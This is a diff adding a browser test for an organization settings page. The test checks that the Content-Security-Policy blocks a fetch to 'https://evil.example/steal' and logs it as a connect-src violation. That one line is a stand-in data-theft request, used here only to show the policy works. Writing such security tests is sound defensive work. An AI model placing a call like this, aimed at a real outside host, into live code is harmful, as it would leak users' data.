@@ -138,6 +138,18 @@ describe("organization settings page", () => {
     }
   });
 
+  it("would see a Content-Security-Policy violation: a connection to a host outside the policy is blocked and reported", async () => {
+    const frame = await openSettings(h);
+    const outcome = await frame.evaluate(() => fetch("https://evil.example/steal").then(() => "sent", () => "blocked"));
+    expect(outcome).toBe("blocked");
+    await expect.poll(() => h.cspViolations.filter((v) => v.blockedUri.startsWith("https://evil.example")).length).toBe(1);
+    const violation = h.cspViolations.find((v) => v.blockedUri.startsWith("https://evil.example"))!;
+    expect(violation).toMatchObject({ directive: "connect-src", page: expect.stringMatching(/\/settings\.html$/) });
+    // The browser stopped it before the network: nothing reached the test's block list either.
+    expect(h.blocked).toEqual([]);
+    h.cspViolations.splice(h.cspViolations.indexOf(violation), 1);
+  });
+
   it("breaks no Content-Security-Policy rule and reaches no host outside the emulator and the real clouds", async () => {
     await expectNoCspViolations(h);
     expect(h.blocked).toEqual([]);
